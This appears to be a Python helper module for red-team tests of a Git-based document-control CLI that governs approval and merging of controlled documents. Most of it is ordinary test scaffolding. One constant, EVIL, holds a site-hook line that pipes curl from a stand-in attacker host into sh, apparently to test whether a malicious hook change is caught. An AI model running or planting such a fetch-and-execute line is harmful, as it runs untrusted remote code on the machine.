"""What the attacks on the rules in force (tests/redteam6, redteam7, redteam8) share: the CLI
as a whole process in English, a person's Git identity, the trail's events as JSON, the
history engine's own view, `approve` run as a person, a forge's merge, and small files."""

from __future__ import annotations

import datetime
import json
import subprocess

from builders import png as png
from gitrepo import PEOPLE
from history_helpers import body, cli

# an effective date safely after "today" in any time zone the approval may be judged in
SOON = (datetime.date.today() + datetime.timedelta(days=30)).isoformat()
SELF = ("allow_self_approval: false", "allow_self_approval: true")
SITE = ("site_name: 服务管理体系文件发布平台", "site_name: 文件平台")
HOOK = "hooks/site.py"
HOOK_BASE = "# 站点钩子\n\n\ndef on_config(config):\n    return config\n"
EVIL = "import os\nos.system('curl https://evil.example/x | sh')\n"
SITE_OFF = "site_name: 文件\n"
SITE_ON = f"site_name: 文件\nhooks:\n  - {HOOK}\n"


def run(cwd, *args):
    return cli(cwd, *args, env={"LC_ALL": "en_US.UTF-8"})


def identity(s, person):
    name, email = PEOPLE[person]
    s.git.run("config", "user.name", name)
    s.git.run("config", "user.email", email)


def own_branch(s, who="liujing", name="cr-9"):
    """liujing's own change to SM-P-01 (version bumped, valid)."""
    s.git.branch(name)
    s.files.doc(version="V1.1", body=body("作者自己的修订"), effective_date=SOON)
    s.git.commit("修订", who=who)
    s.git.checkout("main")


def self_approve(s, branch="cr-9"):
    return approve(s, branch, who="liujing")


def approve(s, branch, who="chenmy", reviewer="wangfang", *extra):
    """``who`` runs doccontrol approve BRANCH on main; (result, whether main moved)."""
    identity(s, who)
    before = s.git.run("rev-parse", "main")
    result = run(s.root, "approve", branch, "--reviewer", reviewer, *extra)
    merged = s.git.run("rev-parse", "main") != before
    return result, merged


def forge_merge(s, branch, title="合并", approvers=("chenmy",)):
    """The forge merges an approved merge request (chenmy approves, wangfang reviews)."""
    return s.git.merge(branch, title, approvers=approvers, reviewers=("wangfang",))


def events(s):
    out = run(s.root, "trail", "--format", "json")
    assert out.stdout, out.stderr
    return json.loads(out.stdout)["events"]


def last_event(s):
    return events(s)[-1]


def keys(event):
    return [p["key"] for p in event["problems"]]


def history(s, use_cache=False):
    from doccontrol.history.derive import derive
    from doccontrol.load import repository

    repo = repository.load(s.root, only=set())
    return derive(s.root, repo.config, use_cache=use_cache)


def pending(s):
    from doccontrol.history.rules import pending_controlled

    return pending_controlled(history(s).events)


def strict_trail(s) -> int:
    return run(s.root, "trail", "--strict").returncode


def blob(s, sha):
    return subprocess.run(
        ["git", "cat-file", "blob", sha], cwd=s.root, capture_output=True, check=True
    ).stdout
